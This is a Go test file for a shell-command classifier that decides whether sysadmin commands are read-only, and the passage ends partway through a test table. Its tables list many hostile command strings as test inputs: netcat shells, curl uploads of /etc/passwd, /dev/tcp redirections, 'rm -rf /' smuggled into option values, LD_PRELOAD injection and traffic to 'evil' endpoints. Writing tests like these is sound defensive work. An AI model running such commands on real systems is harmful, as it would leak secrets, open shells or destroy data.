package command

import (
	"strings"
	"testing"
)

// classCase is one command of a class of the second-generation review
// (issue 10): read says whether it must come out read-only; reason, when
// set, is a prefix of a reason it must carry.
type classCase struct {
	cmd    string
	read   bool
	reason string
}

func hasReasonContaining(reasons []string, s string) bool {
	for _, r := range reasons {
		if strings.Contains(r, s) {
			return true
		}
	}
	return false
}

// runClass classifies each case under labOptions, the deployment the
// corpora assume (corpus_test.go); TestStrictestOptions checks what the
// zero Options refuse.
func runClass(t *testing.T, d Dialect, cases []classCase) {
	t.Helper()
	for _, tc := range cases {
		v := labOptions.Classify(tc.cmd, d)
		if v.ReadOnly() != tc.read {
			t.Errorf("%s %q: %s %v, want read=%v", d, tc.cmd, v.Intent, v.Reasons, tc.read)
			continue
		}
		if tc.reason != "" && !hasReasonContaining(v.Reasons, tc.reason) {
			t.Errorf("%s %q: reasons %q lack %q", d, tc.cmd, v.Reasons, tc.reason)
		}
		if v.Dialect != d {
			t.Errorf("%q: verdict dialect %q, want %q", tc.cmd, v.Dialect, d)
		}
		if !v.ReadOnly() && v.Network {
			t.Errorf("%q: a write verdict says network", tc.cmd)
		}
	}
}

// Class 1: option arguments and abbreviations decide where the verb is;
// unknown options and extra verbs are write-or-unknown.
func TestClassVerbDetection(t *testing.T) {
	runClass(t, DialectBash, []classCase{
		{"systemctl --prop status restart nginx", false, "systemctl restart: known writer"},
		{"systemctl -p status restart nginx", false, "systemctl restart"},
		{"systemctl -pstatus restart nginx", false, "systemctl restart"},
		{"systemctl --property=status stop nginx", false, "systemctl stop"},
		{"systemctl --frobnicate status nginx", false, "systemctl: unknown option --frobnicate"},
		{"systemctl status --frobnicate nginx", false, "systemctl status: unknown option --frobnicate"},
		{"systemctl -H web1 status nginx", false, "systemctl -H: operates on a remote host"},
		{"systemctl --firmware-setup status", false, "systemctl --firmware-setup"},
		{"systemctl log-level debug", false, "systemctl log-level: sets a value"},
		{"systemctl status -n 50 --no-pager nginx", true, "systemctl status: read-only"},
		{"systemctl -t service --state failed list-units", true, ""},
		{"timedatectl -M c1 set-ntp true", false, "timedatectl set-ntp"},
		{"loginctl -p Name terminate-user bob", false, "loginctl terminate-user"},
		{"busctl --address=unix:path=/x list", false, "busctl --address"},
		{"busctl --user call org.x /x org.x M", false, "busctl call"},
		{"networkctl --no-legend reload", false, "networkctl reload"},
		{"systemd-analyze --generators=yes verify x.service", false, "systemd-analyze --generators"},
		{"coredumpctl -o /tmp/core dump nginx", false, "coredumpctl -o"},
		{"coredumpctl --debugger=sh debug", false, "coredumpctl --debugger"},
		{"chronyc -m tracking makestep", false, "chronyc makestep"},
		{"chronyc tracking makestep", false, "chronyc makestep: extra argument"},
		{"chronyc -h 10.0.0.1 sources", true, ""},
		{"supervisorctl -c /etc/s.conf stop all", false, "supervisorctl stop"},
		{"supervisorctl -i status", false, "supervisorctl -i"},
		{"ceph --out-file /tmp/x status", false, "ceph --out-file"},
		{"ceph --out /tmp/x status", false, "ceph --out (--out-file)"},
		{"ceph --admin-daemon /run/ceph/osd.0.asok status", false, "ceph --admin-daemon"},
		{"ceph osd pool ls detail", true, "ceph ls"},
		{"apk --cache-dir /tmp/c info", false, "apk --cache-dir"},
		{"apk -U info", false, "apk -U"},
		{"apk info -L musl", true, ""},
		{"mdadm --detail /dev/md0 --stop", false, "mdadm --stop"},
		{"mdadm --detail /dev/md0", true, ""},
		{"mdadm /dev/md0 --fail /dev/sda1", false, "mdadm --fail"},
		{"zfs list -H -o name -t snapshot", true, ""},
		{"zfs list -t snap destroy", false, "zfs list destroy: extra subcommand after a read-only one"},
		{"docker ps rm x", false, "docker ps rm: extra subcommand"},
		{"zfs help destroy", true, ""},
		{"zfs mount pool/fs", false, "zfs mount: sets a value"},
		{"zpool status -c upath", false, "zpool status -c"},
		{"zpool iostat -c smart 5", false, "zpool iostat -c"},
		{"nft 'list ruleset; flush ruleset'", false, "nft flush"},
		{"nft -c flush ruleset", true, "nft -c"},
		{"nft -f /tmp/rules", false, "nft -f"},
		{"kubectl --namespace prod delete pod x", false, "kubectl delete"},
		{"kubectl -n get pods delete", false, "kubectl pods"},
		{"kubectl get pods --frob", false, "kubectl get: unknown option --frob"},
		{"kubectl get pods --namesp prod", false, "kubectl get: unknown option --namesp"},
		{"kubectl foo bar", false, "kubectl foo: subcommand not known"},
		{"git -c alias.log='!rm -rf /' log", false, "git -c alias.log"},
		{"git --exec-path=/tmp log", false, "git --exec-path"},
		{"git -p log", false, "git -p: runs the pager"},
		{"git log --oneli", false, "git log: unknown option --oneli"},
		{"git log -1 --format=%H", true, ""},
		{"git status --porcelain=v1", true, ""},
		{"git remote show origin", false, "git remote show origin: a remote's name takes its URL from the repository's configuration"},
		{"git remote show https://git.internal/app.git", true, ""},
		{"git remote show -n origin", true, ""},
		{"git remote add x y", false, "git remote add"},
		{"git stash", false, "git stash: no subcommand"},
		{"git submodule foreach rm -rf .", false, "git submodule foreach: runs a program"},
		{"dnf --setopt=x=y list", false, "dnf --setopt"},
		{"dnf -c /tmp/dnf.conf list", false, "dnf -c"},
		{"dnf --downloadonly list", false, "dnf --downloadonly"},
		{"yum history undo 3", false, "yum history undo"},
		{"dnf list installed", true, ""},
		{"apt -o APT::Update::Pre-Invoke::=x list", false, "apt -o"},
		{"apt-get -s install nginx", false, "apt-get install"},
		{"apt show --full nginx", true, ""},
		{"docker --config /tmp/d ps", false, "docker --config"},
		{"docker -H ssh://x ps", false, "docker -H ssh://x"},
		{"docker ps --frob", false, "docker ps: unknown option --frob"},
		{"docker container ls -a", true, ""},
		{"docker system prune -af", false, "docker system prune"},
		{"helm --kubeconfig /tmp/k list", false, "helm --kubeconfig"},
		{"helm template x . --post-renderer ./p", false, "helm template --post-renderer"},
		{"helm get values api -o json", true, ""},
		{"crictl -c /tmp/c.yaml ps", true, ""},
		{"crictl config --set x=y", false, "crictl config"},
		{"etcdctl watch -i", false, "etcdctl watch -i"},
		{"etcdctl member add x", false, "etcdctl member add"},
		{"virsh list; virsh destroy x", false, "virsh destroy"},
		{"virsh 'list; destroy x'", false, "virsh list; destroy x"},
		{"virsh list '; destroy x'", false, "virsh list ; destroy x"},
		{"virsh -c qemu+ssh://h/system list", false, "virsh -c qemu+ssh://h/system"},
		{"virsh -l /tmp/log list", false, "virsh -l"},
		{"rbd --pool rbd ls -l", true, ""},
		{"rados -p data getomapval obj key /tmp/out", false, "rados getomapval: sets a value"},
		{"pvesh get /nodes --output-format json", true, ""},
		{"pvesm status --storage local", true, ""},
		{"snap logs -f nginx", true, ""},
		{"pip config set global.index-url x", false, "pip config set"},
		{"npm --script-shell=/tmp/x ls", false, "npm --script-shell"},
		{"nmcli c s", true, ""},
		{"nmcli d s", false, "nmcli device s"},
		{"nmcli c down id x", false, "nmcli connection down"},
		{"nmcli -a dev wifi", false, "nmcli -a"},
		{"ip x s", true, ""},
		{"ip xfrm policy deleteall", false, "ip xfrm policy deleteall"},
		{"ip -batch /tmp/cmds", false, "ip -batch"},
		{"tc -batch /tmp/cmds", false, "tc -batch"},
		{"ipvsadm -Ln --stats", true, ""},
		{"ipvsadm -C", false, "ipvsadm -C"},
		{"ipvsadm -Z", false, "ipvsadm -Z"},
		{"iptables -C INPUT -p tcp -m tcp --dport 22 -j ACCEPT", true, "iptables -C: checks"},
		{"iptables -C INPUT -j ACCEPT --modp=/tmp/x", false, "iptables --modp (--modprobe)"},
		{"iptables -C INPUT -A INPUT -j DROP", false, "iptables -A: changes firewall rules"},
		{"iptables -L -Z", false, "iptables -Z"},
		{"iptables --li", false, "iptables --li: ambiguous abbreviation"},
		{"iptables --list-r", true, ""},
		{"iptables -L INPUT -n -v --line-numbers -t filter -w 5", true, ""},
	})
}

// Class 2: shell features that execute or redirect behind innocent words.
func TestClassShellFeatures(t *testing.T) {
	runClass(t, DialectBash, []classCase{
		{"set -k; ls LD_PRELOAD=/tmp/x.so", false, "set -k"},
		{"set -ek", false, "set -k"},
		{"set -o keyword", false, "set -o keyword"},
		{"set -o allexport; ld_preload=x ls", false, "set -o allexport"},
		{"set -a", false, "set -a"},
		{"set -o posix", false, "set -o posix"},
		{"set $opts", false, "set: unquoted expansion may split"},
		{"set -euo pipefail; ls", true, ""},
		{"set -- a b; echo $1", true, ""},
		{"shopt -s extdebug", false, "shopt extdebug"},
		{"shopt -so keyword", false, "shopt keyword"},
		{"shopt -s expand_aliases", false, "shopt expand_aliases"},
		{"shopt -s nullglob globstar", false, "shopt nullglob: shell option not known to be harmless"},
		{"shopt -s inherit_errexit", true, ""},
		{"shopt -q extdebug", true, ""},
		{"bash -k -c 'ls'", false, "bash -k"},
		{"bash -o keyword -c ls", false, "bash -o"},
		{"bash -O extdebug -c ls", false, "bash -O"},
		{"echo ${x@P}", false, "${...@P}"},
		{`echo "${PS1@P}"`, false, "${...@P}"},
		{"echo ${a[@]@P}", false, "${...@P}"},
		{"echo ${x@Q} ${x@U} ${x@a}", true, ""},
		{"printf -v PATH %s /tmp", false, "printf PATH: sets a variable that can inject code"},
		{"printf -vLD_PRELOAD %s /x.so", false, "printf LD_PRELOAD"},
		{"printf -v 'a[$(id)]' x", false, "printf: variable name may evaluate"},
		{"printf -v line '%s' x", true, ""},
		{"read -r PATH < /tmp/p", false, "read PATH"},
		{"read -a GIT_DIR < f", false, "read GIT_DIR"},
		{"read -r HOME", false, "read HOME"},
		{"read -r IFS <<< x", false, "read IFS"},
		{"read -r line < /etc/hostname", true, ""},
		{"mapfile -t PAGER < f", false, "mapfile PAGER"},
		{"readarray LESSOPEN < f", false, "readarray LESSOPEN"},
		{"mapfile -C 'rm x' -c 1 a < f", false, "mapfile -C"},
		{"getopts ab BASH_ENV", false, "getopts BASH_ENV"},
		{"wait -p PROMPT_COMMAND", false, "wait PROMPT_COMMAND"},
		{"for PATH in /tmp; do ls; done", false, "for PATH"},
		{"for ENV in x; do :; done", false, "for ENV"},
		{"select IFS in a; do break; done", false, "for IFS"},
		{"for f in a b; do echo $f; done", true, ""},
		{"echo ${PATH:=/tmp}", false, "${PATH:=...}"},
		{"echo ${GIT_PAGER=x}", false, "${GIT_PAGER=...}"},
		{"echo ${x:-default}", true, ""},
		{"declare PROMPT_COMMAND='rm x'", false, "declare PROMPT_COMMAND: sets a variable"},
		{"export LD_LIBRARY_PATH=/tmp", false, "export LD_LIBRARY_PATH: sets a variable"},
		{"local IFS=x", false, "local IFS: sets a variable"},
		{"typeset PAGER=less", false, "typeset PAGER: sets a variable"},
		{"declare -n ref=PATH", false, "declare -n"},
		{"FOO=1 ls", false, "FOO="},
		{"find . -exec sh -c 'cat {}' \\;", false, "sh -c: dynamic command string"},
		{"find . -name '*.log' -exec bash -c 'wc -l {}' \\;", false, "bash -c: dynamic command string"},
		{"find . -exec bash -c 'wc -l {}' +", false, "find -exec: unterminated command"},
		{"find . -exec awk '{print \"{}\"}' {} \\;", false, "awk: dynamic program"},
		{"find . -type f -exec sh -c 'wc -l \"$1\"' sh {} \\;", true, ""},
		{"find /var/log -name '*.log' -exec grep -l ERROR {} +", true, ""},
		{"find . -ok rm {} \\;", false, "find -ok"},
		{"ls | xargs -I{} sh -c 'echo {}'", false, "sh -c: dynamic command string"},
		{"ls | xargs -i sh -c 'echo {}'", false, "sh -c: dynamic command string"},
		{"ls | xargs -I % bash -c 'cat %'", false, "bash -c: dynamic command string"},
		{"ls | xargs --replace=@ sh -c 'stat @'", false, "sh -c: dynamic command string"},
		{"ls | xargs -I{} sort {}", false, "sort: dynamic argument where an option may be"},
		{"ls | xargs sort", false, "sort: dynamic argument where an option may be"},
		{"ls | xargs -I{} cat {}", true, ""},
		{"ls | xargs --process-slot-var=LD_PRELOAD cat", false, "LD_PRELOAD="},
		{"ls | xargs -p rm", false, "xargs -p"},
		{"echo hi > $'/dev/null'", true, ""},
		{"echo hi > $'\\x2fdev\\x2fnull'", true, ""},
		{"echo hi > $'/dev/nul\\u006c'", false, "> $'/dev/nul\\u006c': output redirection"},
		{"echo hi > $'/dev/null\\x00x'", false, "output redirection"},
		{"echo hi > $'/dev/null\\c@'", false, "output redirection"},
		{"echo hi > /dev/nul\\l", true, ""},
		{"echo hi > /dev/null\\ ", false, "output redirection"},
		{"echo hi > /dev/./null", false, "output redirection"},
		{"echo hi >\"/dev/null \"", false, "output redirection"},
		{"echo hi > /dev/null*", false, "output redirection"},
		{"cat < \"$f\"", false, "< \"$f\": input redirection"},
		{"ls\x00; rm -rf /", false, "command: contains a NUL byte (0x00) at offset 2"},
		{"ls\r rm x", false, "command: contains a carriage return (0x0d) at offset 2"},
		{"ls\f", false, "command: contains a control character (0x0c)"},
		{"ls \xff", false, "command: contains invalid UTF-8"},
		{"sh -c $'ls\\rrm -rf /'", false, "command: contains a carriage return"},
		{"cat /proc/$(pidof -s nginx)/limits", true, "pidof: read-only"},
		{"ls -la $(which python3)", true, ""},
		{"diff <(sort a) <(sort b)", true, "sort: read-only"},
		{"cat <(ls) >(wc -l)", true, ""},
		{"cat $(rm -rf /tmp/x)", false, "rm: known writer"},
		{"$(echo rm) -rf /", false, "$(echo rm): dynamic command word"},
		{"ls > $(echo /tmp/x)", false, "output redirection"},
		{"tee >(sh) < f", false, "tee"},
		{"cat f > >(sh)", false, "| sh"},
		{"kill -0 $(cat /tmp/pid)", false, "kill: unquoted expansion"},
		{"echo $(echo $(echo $(echo $(echo $(echo x)))))", false, "$(...): substitutions nested too deep"},
		{"echo `uname -a`", true, "uname: read-only"},
	})
	// The same reads and writes parsed as a POSIX sh, where the bash-only
	// substitutions do not exist.
	runClass(t, DialectPOSIX, []classCase{
		{"diff <(sort a) <(sort b)", false, "unparseable"},
		{"cat /proc/$(pidof -s nginx)/limits", true, ""},
		{"cat $(rm -rf /tmp/x)", false, "rm: known writer"},
	})
}

// Class 3: network side effects.
func TestClassNetwork(t *testing.T) {
	runClass(t, DialectBash, []classCase{
		{"cat < /dev/tcp/10.0.0.1/80", false, "< /dev/tcp/10.0.0.1/80: redirection to a network device"},
		{"echo x > /dev/udp/10.0.0.1/53", false, "> /dev/udp/10.0.0.1/53: redirection to a network device: network write"},
		{"exec 3<>/dev/tcp/x/80", false, "/dev/tcp"},
		{"cat < /dev/t\\cp/10.0.0.1/80", false, "< /dev/tcp/10.0.0.1/80"},
		{"echo /dev/tcp/x/1", false, "/dev/tcp/x/1: network device path"},
		{"sh -c $'cat </dev/\\x74cp/h/80'", false, "network device"},
		{"openssl s_client -connect redis:6379 < /tmp/cmds", false, "openssl s_client: local data on its standard input"},
		{"printf 'FLUSHALL\\r\\n' | openssl s_client -connect redis:6379", false, "openssl s_client: local data on its standard input"},
		{"echo | openssl s_client -connect x:443", true, ""},
		{"openssl s_client -connect x:443 -early_data /etc/passwd </dev/null", false, "openssl s_client -early_data"},
		{"openssl s_client -connect x:443 -engine /tmp/e.so </dev/null", false, "openssl s_client -engine"},
		{"nc redis 6379 < /tmp/cmds", false, "nc: local data on its standard input"},
		{"nc -e /bin/sh x 4444", false, "nc -e"},
		{"nc -l 8080", false, "nc -l"},
		{"ncat --sh-exec 'id' x 1", false, "ncat --sh-exec"},
		{"nc -zu x 53", false, "nc -u"},
		{"nc -z -w 2 db 5432", true, "nc -z"},
		{"curl dict://redis:6379/FLUSHALL", false, "curl dict://"},
		{"curl gopher://127.0.0.1:6379/_FLUSHALL", false, "curl gopher://"},
		{"curl telnet://mail:25", false, "curl telnet://"},
		{"curl ldap://x/", false, "curl ldap://"},
		{"curl dict.example.com", false, "curl dict.example.com"},
		{"curl -H @/etc/passwd http://x/", false, "curl -H @/etc/passwd: sends headers read from a file"},
		{"curl -H 'X-HTTP-Method-Override: DELETE' http://x/", false, "curl -H: header may override"},
		{"curl -d @/etc/passwd http://x/", false, "curl -d: sends data"},
		{"curl --data-binary @- http://x/", false, "curl --data-binary: sends data"},
		{"curl -T /etc/passwd http://x/", false, "curl -T: sends data"},
		{"curl -F f=@/etc/passwd http://x/", false, "curl -F: sends data"},
		{"curl --json '{}' http://x/", false, "curl --json"},
		{"curl -b /root/cookies.txt http://x/", false, "curl -b /root/cookies.txt: sends cookies read from a file"},
		{"curl --netrc http://x/", false, "curl --netrc"},
		{"curl -K /tmp/curlrc http://x/", false, "curl -K"},
		{"curl -A $'x\\r\\nX-Evil: 1' http://x/", false, "curl: control character"},
		{"curl --url-query @/etc/passwd http://x/", false, "curl --url-query"},
		{"curl -b 'session=abc' -u bob:pw http://x/status", true, ""},
		{"whois -h 127.0.0.1 -p 6379 FLUSHALL", false, "whois -p"},
		{"whois -h 10.0.0.1:6379 x", false, "whois -h 10.0.0.1:6379"},
		{"whois -h whois.arin.net 8.8.8.8", false, "whois: destination whois.arin.net:43 is not known to vigil"},
		{"whois -h git.internal x", true, ""},
		{"dig -f /tmp/names", false, "dig -f: sends queries read from a file"},
		{"dig -p 6379 @127.0.0.1 x", false, "dig -p 6379"},
		{"host -p 11211 x 127.0.0.1", false, "host -p 11211"},
		{"nslookup -port=6379 x 127.0.0.1", false, "nslookup -port=6379"},
		{"nslookup < /tmp/cmds", false, "nslookup: local data on its standard input"},
		{"dig @1.1.1.1 example.com AAAA +short", false, "dig: destination 1.1.1.1:53 is not known to vigil"},
		{"dig @10.0.0.1 example.com AAAA +short", true, ""},
		{"ssh web1 'cat > /tmp/x' < /etc/passwd", false, "ssh: sends local input"},
		{"cat /etc/passwd | ssh web1 wc -l", false, "ssh: sends local input"},
		{"ssh -A web1 uptime", false, "ssh -A: forwards the local agent"},
		{"ssh -X web1 uptime", false, "ssh -X"},
		{"ssh -Y web1 uptime", false, "ssh -Y"},
		{"ssh -o ForwardAgent=yes web1 uptime", false, "ssh -o ForwardAgent=yes"},
		{"ssh -L 8080:db:5432 web1", false, "ssh -L"},
		{"ssh -I /tmp/pkcs.so web1 ls", false, "ssh -I: loads a PKCS#11 library"},
		{"ssh -o ProxyCommand='sh -c x' web1 ls", false, "ssh -o ProxyCommand"},
		{"ssh -n web1 uptime < /etc/passwd", true, ""},
		{"ssh web1 uptime </dev/null", true, ""},
		{"kubectl --server https://10.0.0.9:6443 get pods", false, "kubectl --server"},
		{"kubectl -s https://evil get pods", false, "kubectl -s"},
		{"kubectl --kubeconfig /tmp/kc get pods", false, "kubectl --kubeconfig"},
		{"KUBECONFIG=/tmp/kc kubectl get pods", false, "KUBECONFIG="},
		{"DOCKER_HOST=ssh://x docker ps", false, "DOCKER_HOST="},
		{"helm --kube-apiserver https://evil list", false, "helm --kube-apiserver"},
		{"aws --endpoint-url http://evil:9000 s3 ls", false, "aws --endpoint-url"},
		{"aws ec2 describe-instances --endpoint-url=http://evil", false, "aws --endpoint-url"},
		{"aws ec2 describe-instances --filters file:///etc/passwd", false, "aws ec2 describe-instances file:///etc/passwd"},
		{"aws ec2 describe-instances --cli-input-json file://x", false, "aws --cli-input-json"},
		{"gcloud --access-token-file /tmp/t compute instances list", false, "gcloud --access-token-file"},
		{"az vm show --ids @/tmp/ids", false, "az --ids @/tmp/ids"},
	})
	// Network is set exactly for reads that talk over the network.
	for cmd, want := range map[string]bool{
		"curl -s http://x/metrics": true, "dig example.com": true, "ping -c 1 x": true,
		"kubectl get pods": true, "ssh web1 uptime": true, "nc -z db 5432": true,
		"redis-cli -h cache PING": true, "psql -h db -c 'SELECT 1'": true, "getent hosts x": true,
		"ls -la": false, "cat /etc/hosts": false, "docker ps": false, "systemctl status x": false,
		"curl file:///etc/hosts": false, "ip addr": false,
	} {
		v := labOptions.Classify(cmd, DialectBash)
		if !v.ReadOnly() || v.Network != want || want != (len(v.Destinations) > 0) {
			t.Errorf("%q: read=%v network=%v, want read and network=%v (%v)", cmd, v.ReadOnly(), v.Network, want, v.Reasons)
		}
	}
}

// Class 4: GET is not harmless by convention: a URL is a read only when
// it is listed or has the exact shape of a well-known read endpoint.
func TestClassURLActions(t *testing.T) {
	const notKnown = "URL is not a known read endpoint"
	runClass(t, DialectBash, []classCase{
		{"curl 'http://tomcat:8080/manager/text/undeploy?path=/app'", false, "curl: destination tomcat:8080 is not known to vigil (declare it in policy.http_read_urls)"},
		{"curl 'http://x:8080/manager/text/undeploy?path=/app'", false, "curl http://x:8080/manager/text/undeploy?path=/app: " + notKnown},
		{"curl 'http://x:8983/solr/admin/cores?action=UNLOAD&core=c1'", false, notKnown},
		{"curl 'http://x/job/x/build?token=t'", false, notKnown},
		{"curl http://x/api/v1/restart", false, notKnown},
		{"curl http://x/%72%65start", false, notKnown},
		{"curl http://x/%2572%2565start", false, notKnown},
		{"curl 'http://x/api?op=forceRestart'", false, notKnown},
		{"curl 'http://x/a;action=delete'", false, notKnown},
		{"curl 'http://x/{status,shutdown}'", false, "curl expands {…} and […] in a URL"},
		{"curl -g 'http://x/{status,shutdown}'", false, notKnown},
		{"curl http://x/admin/flush_all", false, notKnown},
		{"curl -X GET http://x/v1/agent/leave/kill", false, notKnown},
		{"wget -qO- http://x/cache/purge", false, notKnown},
		{"http GET http://x/jobs/trigger", false, notKnown},
		{"http --ignore-stdin x/job/run", false, notKnown},
		{"http GET x action==reset", false, notKnown},
		{"http GET x/metrics action==reset", false, notKnown},
		{"curl 'http://x/metrics?action=reset'", false, notKnown},
		{"curl http://x/metrics/../admin", false, notKnown},
		{"curl http://x/%6detrics", false, notKnown},
		{"curl http://localhost:8001/api/v1/namespaces/x/services/y:80/proxy/", false, notKnown},
		{"kubectl get --raw /api/v1/namespaces/x/services/y/proxy/admin", false, "kubectl get --raw"},
		{"kubectl get --raw /api/v1/namespaces/x/secrets/y", false, "kubectl get --raw"},
		{"kubectl get --raw /metrics", true, ""},
		{"kubectl get --raw '/readyz?verbose'", true, ""},
		{"kubectl get --raw /livez/etcd", true, ""},
		{"curl -s 'http://localhost:9090/api/v1/query?query=up'", true, ""},
		{"curl -s http://localhost:9090/api/v1/query?query=up", false, "value is built by glob expansion"},
		{"curl -s 'http://localhost:9090/api/v1/query_range?query=up&start=1&end=2&step=15'", true, ""},
		{"curl -s 'http://localhost:9090/api/v1/query?query=up&evil=1'", false, notKnown},
		{"curl -s 'http://localhost:9093/api/v2/alerts?silenced=false'", true, ""},
		{"curl -s 'http://localhost:9093/api/v2/silences'", true, ""},
		{"curl -s 'http://localhost:9200/_cluster/health?pretty'", true, ""},
		{"curl -s 'http://localhost:9200/_cat/indices?v&s=index'", true, ""},
		{"curl -s 'http://localhost:9200/_cluster/settings'", false, notKnown},
		{"curl -sf http://localhost:8080/actuator/health", true, ""},
		{"curl -s 'http://x/jobs?state=running'", false, notKnown},
		{"http GET :8080/health", true, ""},
		{"http --ignore-stdin x/status", true, ""},
		{"http x/status", false, "sends its stdin as the body"},
		{"wget --spider http://x/status", true, ""},
	})
}

// A listed prefix (policy.http_read_urls) makes its URLs reads, and its
// host a known destination.
func TestClassListedURLs(t *testing.T) {
	p, err := ParseURLPrefix("http://jenkins.internal:8080/job/")
	if err != nil {
		t.Fatal(err)
	}
	o := Options{HTTPReadURLs: []URLPrefix{p}}
	for cmd, want := range map[string]bool{
		"curl -s http://jenkins.internal:8080/job/x/api/json":     true,
		"curl -s 'http://jenkins.internal:8080/job/x?depth=1'":    true,
		"curl -s http://jenkins.internal:8080/manage":             false,
		"curl -s http://jenkins.internal:8081/job/x/api/json":     false,
		"curl -s https://jenkins.internal:8080/job/x/api/json":    false,
		"curl -s http://jenkins.internal:8080/job/../script/text": false,
	} {
		if v := o.Classify(cmd, DialectBash); v.ReadOnly() != want {
			t.Errorf("%q: read=%v %v, want %v", cmd, v.ReadOnly(), v.Reasons, want)
		}
	}
}

// Class 6: per-tool options that write, load code or change state.
func TestClassToolWriters(t *testing.T) {
	runClass(t, DialectBash, []classCase{
		{"sort --out=/tmp/x f", false, "sort --out (--output)"},
		{"sort --compress-program=sh f", false, "sort --compress-program"},
		{"uniq a*", false, "uniq a*: glob or expansion may expand into the output operand"},
		{"uniq \"$f\"", false, "uniq"},
		{"uniq in out", false, "uniq: writes its output operand"},
		{"xxd in.bin out.hex", false, "xxd: writes its second operand"},
		{"xxd *.bin", false, "xxd *.bin"},
		{"lz4 -dc a*", false, "lz4 a*"},
		{"zstdcat -o /tmp/x f.zst", false, "zstdcat -o"},
		{"zstdcat --rm f.zst", false, "zstdcat --rm"},
		{"zstd -dc --trace /tmp/t f.zst", false, "zstd --trace"},
		{"zstd -dc f.zst", true, ""},
		{"nm --plugin /tmp/p.so a.out", false, "nm --plugin"},
		{"nm @/tmp/opts a.out", false, "nm @/tmp/opts"},
		{"size --plugin=/tmp/p.so a.out", false, "size --plugin"},
		{"apt -o Dir::Bin::dpkg=/tmp/x list", false, "apt -o"},
		{"apt-cache -p /tmp/pkgcache.bin show bash", false, "apt-cache -p"},
		{"rpm -q --dbpath '%(rm -rf /)' bash", false, "rpm %(rm -rf /)"},
		{"rpm -qa --define 'x y'", false, "rpm --define"},
		{"rpm -qa --queryformat '%{NAME}\\n'", true, ""},
		{"nginx -t -e /tmp/x", false, "nginx -e"},
		{"nginx -t -g 'load_module /tmp/m.so;'", false, "nginx -g"},
		{"nginx -t -p /tmp/prefix", false, "nginx -p"},
		{"nginx -s reload", false, "nginx -s"},
		{"nginx -t -c /etc/nginx/nginx.conf", true, ""},
		{"mailq -q", false, "mailq"},
		{"mailq -bi", false, "mailq"},
		{"less -o /tmp/log f", false, "less -o"},
		{"less -O/tmp/log f", false, "less -O"},
		{"less --LOG /tmp/x f", false, "less --LOG (--LOG-FILE)"},
		{"less -k /tmp/keys f", false, "less -k"},
		{"less --lesskey-src=/tmp/k f", false, "less --lesskey-src"},
		{"less '+!rm x' f", false, "less '+!rm x': initial commands"},
		{"less --save-marks f", false, "less --save-marks"},
		{"less -R f", true, ""},
		{"npm cache verify", false, "npm cache verify"},
		{"npm --cache /tmp/c ls", false, "npm --cache"},
		{"npm doctor", false, "npm doctor"},
		{"pip --log /tmp/l list", false, "pip --log"},
		{"pip --cache-dir /tmp/c list", false, "pip --cache-dir"},
		{"pip --python /tmp/py list", false, "pip --python"},
		{"kubectl get pods --log-file=/tmp/l", false, "kubectl get --log-file"},
		{"kubectl get pods --profile=cpu", false, "kubectl get --profile"},
		{"kubectl get pods --profile-output=/tmp/p", false, "kubectl get --profile-output"},
		{"kubectl cluster-info dump --output-directory=/tmp/d", false, "kubectl cluster-info dump --output-directory"},
		{"helm --repository-cache /tmp/c list", false, "helm --repository-cache"},
		{"journalctl --vacuum-time=1d", false, "journalctl --vacuum-time"},
		{"journalctl --rot", false, "journalctl --rot (--rotate)"},
		{"journalctl --cursor-file=/tmp/c", false, "journalctl --cursor-file"},
		{"journalctl --setup-keys", false, "journalctl --setup-keys"},
		{"dmesg -C", false, "dmesg -C"},
		{"dmesg --console-level 1", false, "dmesg --console-level"},
		{"smartctl -jt long /dev/sda", false, "smartctl -t"},
		{"smartctl -l scterc,70,70 /dev/sda", false, "smartctl -l scterc,70,70"},
		{"smartctl -l sataphy,reset /dev/sda", false, "smartctl -l sataphy,reset"},
		{"smartctl -a -l error /dev/sda", true, ""},
		{"tar -tf x.tar --to-command=sh", false, "tar --to-command"},
		{"tar -tf x.tar -I 'sh -c id'", false, "tar -I"},
		{"tar -tf x.tar --index-file=/tmp/i", false, "tar --index-file"},
		{"tar -tf host:/x.tar", false, "tar -f: archive may be remote"},
		{"tar -xOf x.tar etc/passwd", true, ""},
		{"tar -xf x.tar", false, "tar -x: extracts files"},
		{"tar czf /tmp/x.tgz /etc", false, "tar -c"},
		{"file -C -m /tmp/magic", false, "file -C"},
		{"file -p /etc/passwd", false, "file -p"},
		{"sed --in=bak s/a/b/ f", false, "sed --in (--in-place)"},
		{"awk -o /tmp/x '{print}' f", false, "awk -o"},
		{"awk -l /tmp/x '{print}' f", false, "awk -l"},
		{"gawk -d/tmp/vars 'BEGIN{}'", false, "gawk -d"},
		{"dmidecode --dump-bin /tmp/d", false, "dmidecode --dump-bin"},
		{"blkid -c /tmp/cache", false, "blkid -c /tmp/cache"},
		{"blkid -c /dev/null", true, ""},
		{"update-alternatives --log /tmp/l --display java", false, "update-alternatives --log"},
		{"dpkg --log=/tmp/l -l", false, "dpkg --log"},
		{"dpkg --status-logger='sh -c x' -l", false, "dpkg --status-logger"},
		{"lxc-info -n c1 -o /tmp/log", false, "lxc-info -o"},
		{"lxc-ls --rcfile /tmp/rc", false, "lxc-ls --rcfile"},
		{"ansible-inventory --list --output /tmp/x", false, "ansible-inventory --output"},
		{"ansible-inventory -i ./inv.py --list", false, "ansible-inventory -i"},
		{"ansible-inventory --vault-password-file ./pw.sh --list", false, "ansible-inventory --vault-password-file"},
		{"terraform plan -lock=false -out=/tmp/p", false, "terraform plan -out"},
		{"terraform plan -lock=false -generate-config-out=g.tf", false, "terraform plan -generate-config-out"},
		{"terraform fmt", false, "terraform fmt"},
		{"aws s3api get-object --bucket b --key k /tmp/out", false, "aws s3api get-object"},
		{"tcpdump -i any -w /tmp/cap", false, "tcpdump -w"},
		{"tcpdump -i any -c 10 -z /tmp/x", false, "tcpdump -z"},
		{"ss -D /tmp/dump", false, "ss -D"},
		{"ss -K dst 10.0.0.1", false, "ss -K"},
		{"iptables-save -f /etc/iptables.rules", false, "iptables-save -f"},
		{"iptables-save -M /tmp/modprobe", false, "iptables-save -M"},
		{"sar -o /tmp/sa 1 3", false, "sar -o"},
		{"pidstat -e /tmp/x", false, "pidstat -e"},
		{"/usr/bin/time -o /tmp/t ls", false, "time -o"},
		{"time -o /tmp/t ls", false, "-o: unknown command"},
		{"arping -U -I eth0 10.0.0.1", false, "arping -U"},
		{"udevadm info --cleanup-db", false, "udevadm info --cleanup-db"},
		{"udevadm test /sys/class/net/eth0", false, "udevadm test"},
		{"git grep -O foo", false, "git grep -O"},
		{"git ls-remote --upload-pack='rm -rf /' origin", false, "git ls-remote --upload-pack"},
		{"git fsck --lost-found", false, "git fsck --lost-found"},
